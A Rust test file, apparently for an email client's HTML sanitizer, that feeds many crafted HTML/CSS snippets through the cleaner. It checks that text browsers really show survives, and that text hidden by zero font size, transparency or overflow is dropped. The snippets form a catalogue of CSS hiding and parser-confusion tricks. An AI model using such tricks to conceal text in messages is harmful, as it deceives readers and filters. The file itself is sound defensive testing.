    r#"<style>.m{all:revert!important}</style><span class=m style="display:none">yes</span>"#,
    "<style>div{display:block}</style><div hidden>yes</div>",
    "<style>[hidden]{display:block}</style><div hidden>yes</div>",
    "<style>@media (max-width:9999px){[hidden]{display:block}}</style><div hidden>yes</div>",
    r#"<style>.m{height:auto!important}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{overflow:visible!important}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{padding:20px}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{min-height:20px}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{display:inline!important}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{display:inline}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{display:contents}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{display:contents}</style><div class=m style="opacity:0">yes</div>"#,
    r#"<style>div{display:contents}</style><div style="opacity:0">yes</div>"#,
    r#"<style>.m{display:table-cell}</style><div class=m style="height:0;overflow:hidden">yes</div>"#,
    r#"<style>.m{font-size:14px}</style><div style="font-size:0"><p class=m>yes</p></div>"#,
    r#"<style>.m{color:red}</style><div style="color:transparent"><p class=m>yes</p></div>"#,
    r#"<style>.m{visibility:visible}</style><div style="visibility:hidden"><p class=m>yes</p></div>"#,
    r#"<style>.m{position:absolute}</style><div style="height:0;overflow:hidden"><p class=m>yes</p></div>"#,
    r#"<style>p::first-line{font-size:20px}</style><p style="font-size:0">yes</p>"#,
    r#"<style>p::first-line{color:red}</style><p style="color:transparent">yes</p>"#,
    r#"<style>p::first-letter{visibility:visible}</style><p style="visibility:hidden">yes</p>"#,
    r#"<style>p{-webkit-text-stroke:1px red}</style><p style="color:transparent">yes</p>"#,
    r#"<style>*{text-shadow:0 0 1px red}</style><p style="color:transparent">yes</p>"#,
    r#"<style>body{text-shadow:0 0 1px red}</style><p style="color:transparent">yes</p>"#,
    r#"<style>body{-webkit-text-fill-color:red}</style><p style="color:transparent">yes</p>"#,
    r#"<style>.w{-webkit-text-stroke:1px red}</style><div class=w><p style="color:transparent">yes</p></div>"#,
    r#"<div style="text-shadow:0 0 0 red"><p style="color:transparent">yes</p></div>"#,
    r#"<div style="-webkit-text-fill-color:red"><p style="color:transparent">yes</p></div>"#,
    r#"<body style="text-shadow:0 0 0 red"><p style="color:transparent">yes</p></body>"#,
    r#"<body style="-webkit-text-fill-color:red"><p style="color:transparent">yes</p></body>"#,
    r#"<o:p style="-webkit-text-fill-color:red"><p style="color:transparent">yes</p></o:p>"#,
    r#"<p style="color:transparent;text-decoration:none;-webkit-text-fill-color:currentcolor;-webkit-text-fill-color:#000">yes"#,
    r#"<style>/*</style><style>.m{display:block!important}</style><p class=m style="display:none">yes</p>"#,
    r#"<style>@media x</style><style>.m{display:block!important}</style><p class=m style="display:none">yes</p>"#,
    r#"<svg><title><style>.m{display:block!important}</style></title></svg><p class=m style="display:none">yes</p>"#,
    r#"<select><title></select><style>.m{display:block!important}</style></title><p class=m style="display:none">yes</p>"#,
    r#"<link rel=stylesheet href="data:text/css,*{display:block!important}"><p style="display:none">yes</p>"#,
    r#"<style>@import "data:text/css,*{display:block!important}http:";</style><p style="display:none">yes</p>"#,
    r#"<style>.m{color:red}</style><div style="color:transparent"><p class=m style="color:revert-layer">yes</p></div>"#,
    r#"<p style="display:contents;display:bogus;opacity:0">yes</p>"#,
    r#"<table cellpadding=20><tr><td style="display:block;height:0;overflow:hidden">yes</table>"#,
    r#"<style>@starting-style{.m{opacity:1}}</style><p class=m style="opacity:0">yes</p>"#,
    r#"<style>.\4d{display:block!important}</style><p class=M style="display:none">yes</p>"#,
    r#"<style>p{background:red text}</style><p><b style="color:transparent">yes</b></p>"#,
];

/// What browsers show is read and quoted, whatever looks in its style as if it hid.
#[test]
fn what_everybody_sees_is_seen() {
    let (_home, mut host) = host();
    for html in [
        // Word and Outlook alone read it: buttons have it that everybody else sees.
        "<a href='http://x.example' style='display:inline-block;mso-hide:all'>yes</a>",
        // Of one property the last valid declaration counts, or the important one.
        "<b style='display:none;display:block'>yes</b>",
        "<b style='display:none;display:inline flow-root'>yes</b>",
        "<b style='display:block!important;display:none'>yes</b>",
        "<b style='opacity:0;opacity:1'>yes</b>",
        "<b style='font-size:1em!important;font-size:0'>yes</b>",
        "<b style='font-size:0;font:12px/0 Arial'>yes</b>",
        "<b style='font-size:12px;font:0'>yes</b>",
        "<b style='font:0 12px Arial'>yes</b>",
        "<b style='font-size:-1px'>yes</b><b style='font-size:0;font-size:14'>yes</b>",
        "<b style='visibility:hidden;visibility:initial'>yes</b>",
        "<b style='color:transparent;color:#333'>yes</b>",
        "<b style='font-size:0;all:initial'>yes</b>",
        "<b style='display:none!x'>yes</b><b style='display:none none'>yes</b>",
        "<div hidden style='display:block'>yes</div>",
        // What looks like a declaration, and stands in a string, in parentheses, in a block.
        "<p style=\"font-family:'x;display:none;'\">yes</p>",
        "<p style='background:url(x;display:none;)'>yes</p>",
        "<p style='--x:{;display:none;}'>yes</p>",
        "<p style='@media x{;display:none;}'>yes</p>",
        "<p style='x-display:none'>yes</p>",
        // Heights mean nothing inline and in tables, and not where there is room otherwise.
        "<span style='height:0;overflow:hidden'>yes</span>",
        "<div style='display:inline;height:0;overflow:hidden'>yes</div>",
        "<div style='overflow:hidden;width:0;min-width:100%'>yes</div>",
        "<div style='overflow:hidden;height:0;padding-bottom:9em'>yes</div>",
        "<div style='overflow:hidden;height:0%'>yes</div>",
        "<div style='overflow:hidden;flex:1;width:0'>yes</div>",
        "<div style='overflow:hidden;overflow:visible;height:0'>yes</div>",
        "<div style='overflow:hidden;height:0;height:auto'>yes</div>",
        "<div style='overflow:clip visible;height:0'>yes</div>",
        "<div style='overflow:hidden;height:0'><p style='position:absolute'>yes</p></div>",
        "<table><tr><td style='width:0;overflow:hidden'>yes</table>",
        // Tables begin anew, and some elements have sizes and colours of their own.
        "<div style='font-size:0'><table><tr><td>yes</table></div>",
        "<div style='font-size:0'><font size=3>yes</font></div>",
        "<div style='font-size:0'><main style='font-size:1rem'>yes</main></div>",
        "<div style='font-size:0'><x-y style='font-size:1rem'>yes</x-y></div>",
        "<div style='font-size:0'><button>yes</button></div>",
        "<div style='color:transparent'><a href='http://x.example'>yes</a></div>",
        "<div style='color:transparent'><font color=red>yes</font></div>",
        "<div style='visibility:hidden'><nav style='visibility:visible'>yes</nav></div>",
        // Painted otherwise, or later.
        "<b style='color:transparent;text-shadow:0 0 0 red'>yes</b>",
        "<b style='color:#0000;-webkit-text-fill-color:red'>yes</b>",
        "<h1 style='background:red;-webkit-background-clip:text;color:transparent'><i>yes</i></h1>",
        "<b style='opacity:0;animation:x 1s forwards'>yes</b>",
        "<b style='display:contents;opacity:0'>yes</b>",
        "<b style='color:rgba(x,0,0,0)'>yes</b><b style='color:rgb(0 0 0)'>yes</b>",
        "<b style='font-size:calc(0px + 1em)'>yes</b><b style='display:var(--x)'>yes</b>",
        // A sheet that is not read gives them back.
        "<style>.x{font-size:16px}</style><div style='font-size:0'><p class=x>yes</p></div>",
        "<style>p{c\\olor:red}</style><div style='color:transparent'><p>yes</p></div>",
        "<style>.a .X, i{display:inline!important}</style><b class='w x' style='display:none'>yes</b>",
        "<style><!-- @media screen{#i{opacity:1!important}} --></style><b id=i style='opacity:0'>yes</b>",
        "<style>div>b:not(.x){font-size:1em!important}</style><b style='font-size:0'>yes</b>",
        "<style>@media (max-width:1px){p{x:y}}*{visibility:visible!important}</style><b style='visibility:hidden'>yes</b>",
        "<style>[style]{max-height:none!important}</style><p style='max-height:0;overflow:hidden'>yes</p>",
        "<style>b{display:inline}</style><b hidden>yes</b>",
        // Parts of forms, pictures and formulas, and what stands there where nothing runs.
        "<textarea>yes</textarea>",
        "<select><option>yes</option></select>",
        "<svg><text>yes</text></svg>",
        "<svg><foreignObject><p>yes</p></foreignObject></svg>",
        "<math><mi>yes</mi><mtext><b>yes</b></mtext></math>",
        "<input value=yes><input type=submit value=yes>",
        "<noscript>yes</noscript><NoScript><p title='x'>yes</p></NoScript>",
        "<object data=x>yes</object>",
    ]
    .into_iter()
    .chain(TAKEN_BACK) {
        let page = format!("<p>I will</p>{html}<p>pay</p>");
        let opened = host.open(&message(&page)).unwrap();
        let clean = host.bytes(&opened["parts"][0]["html"]["clean"]);
        let clean = String::from_utf8(clean).unwrap();
        let quote = String::from_utf8(host.bytes(&opened["quote"])).unwrap();
        for text in [clean, quote] {
            let times = html.matches("yes").count();
            assert_eq!(text.matches("yes").count(), times, "{html}: {text}");
        }
    }
}

/// What is hidden until something inside takes it back, as layouts do: one column of size zero
/// whose parts say theirs.
#[test]
fn what_is_taken_back_is_seen() {
    let (_home, mut host) = host();
    for (html, seen) in [
        (
            "<td style='font-size:0px'>no<div style='font-size:13px'>yes</div>no</td>",
            "yes",
        ),
        (
            "<div style='font-size:0'>no<p style='font-size:1em'>no</p><p style='font-size:1rem'>yes</p></div>",
            "yes",
        ),
        (
            "<div style='font-size:0'><div style='font-size:50%'>no</div></div>yes",
            "yes",
        ),
        (
            "<div style='font:0/0 a'>no<b style='font:bold 12px/1 Arial'>yes</b></div>",
            "yes",
        ),
        (
            "<div style='visibility:hidden'>no<b style='visibility:visible'>yes</b><img alt=no src=cid:x></div>",
            "yes",
        ),
        (
            "<div style='color:transparent'>no<b style='color:#333'>yes</b></div>",
            "yes",
        ),
        (
            "<p style='font-size:0'>no</p>yes<span style='visibility:collapse'>no</span>",
            "yes",
        ),
        (
            "<div style='display:none'>no<b style='display:block'>no</b></div>yes",
            "yes",
        ),
        (
            "<div style='max-height:0;overflow:hidden'>no<p>no</p><img alt=no src=cid:x></div>yes",
            "yes",
        ),
        (
            "<div style='height:0;overflow:hidden;overflow:bogus'>no</div>yes<p style='width:0;overflow-x:clip'>no</p>",
            "yes",
        ),
        (
            "<p style='height:0;overflow-y:hidden;padding:0 0'>no</p>yes<b style='display:inline-block;height:0;overflow:clip'>no</b>",
            "yes",
        ),
        (
            "<p style='color:#0000'>no<b style='color:bl'>yes</b></p><p style='color:#ff000000'>no</p>",
            "yes",
        ),
        (
            "<p style='color:rgba(0,0,0,0)'>no</p><p style='color:rgb(1% 2% 3% / 0%)'>no</p><p style='color:hsla(9deg,1%,1%,0.0)'>no</p>yes",
            "yes",
        ),
        (
            "<p style='visibility:hidden'>no<b style='visibility:inherit'>no</b><b style='visibility:bogus'>no</b></p>yes",
            "yes",
        ),
        (
            "<p style='font-size:0'>no<b style='font-size:inherit'>no</b><b style='font-size:bogus'>no</b><b style='font:inherit'>no</b></p>yes",
            "yes",
        ),
        (
            "<p style='font:italic 0/1.5 a,\"b c\"'>no</p>yes<p style='color:transparent'>no<b style='color:currentcolor'>no</b></p>",
            "yes",
        ),
    ] {
        let opened = host
            .open(&message(&format!("<table><tr>{html}</table>")))
            .unwrap();
        let quote = String::from_utf8(host.bytes(&opened["quote"])).unwrap();
        assert_eq!(quote.trim(), seen, "{html}");
        let clean = host.bytes(&opened["parts"][0]["html"]["clean"]);
        let clean = String::from_utf8(clean).unwrap();
        assert!(
            clean.contains("yes") && !clean.contains("no"),
            "{html}: {clean}"
        );
    }
}

/// A forwarded message has its own images: those of two messages are never joined.
#[test]
fn images_of_another_message_are_not_joined() {
    let (_home, mut host) = host();
    let mail = "From: alice@sealpost.example\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
        <p>x<img src=\"cid:cat@x.example\">\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n\
        From: bob@sealpost.example\r\nContent-Type: image/png\r\nContent-ID: <cat@x.example>\r\n\r\n\
        PNG\r\n--b--\r\n";
    let opened = host.open(mail.as_bytes()).unwrap();
    let parts = opened["parts"].as_array().unwrap();
    assert!(
        parts
            .iter()
            .any(|part| part["contentId"] == "cat@x.example"),
        "{opened}"
    );
    assert_eq!(opened["parts"][0]["html"]["cids"], json!([]), "{opened}");
}
